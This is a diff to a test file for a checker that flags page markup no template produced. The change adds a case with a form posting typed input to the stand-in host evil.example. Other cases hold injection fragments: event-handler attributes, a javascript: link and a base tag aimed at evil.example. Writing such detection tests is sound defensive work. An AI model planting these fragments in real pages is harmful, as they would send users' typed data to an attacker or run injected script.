@@ -36,7 +36,11 @@ describe('what no template wrote is found', () => {
     ['a handler', page('<p onclick="x()">y</p>'), 'the attribute `onClick` of `<p>`'],
     ['a picture', page('<img src="x">'), 'the element `<img>`'],
     ['a frame', page('<iframe src="/x"></iframe>'), 'the element `<iframe>`'],
-    ['a form', page('<form action="/x"></form>'), 'the element `<form>`'],
+    [
+      'a form that sends what is typed',
+      page('<form action="https://evil.example/"></form>'),
+      'the attribute `action` of `<form>`',
+    ],
     ['a base', page('', '<base href="https://evil.example/">'), 'the element `<base>`'],
     ['a drawing that loads', page('<svg onload="x()"></svg>'), 'the attribute `onLoad` of `<svg>`'],
     ['a script link', page('<a href="javascript:x()">y</a>'), 'a link to `javascript:x()`'],
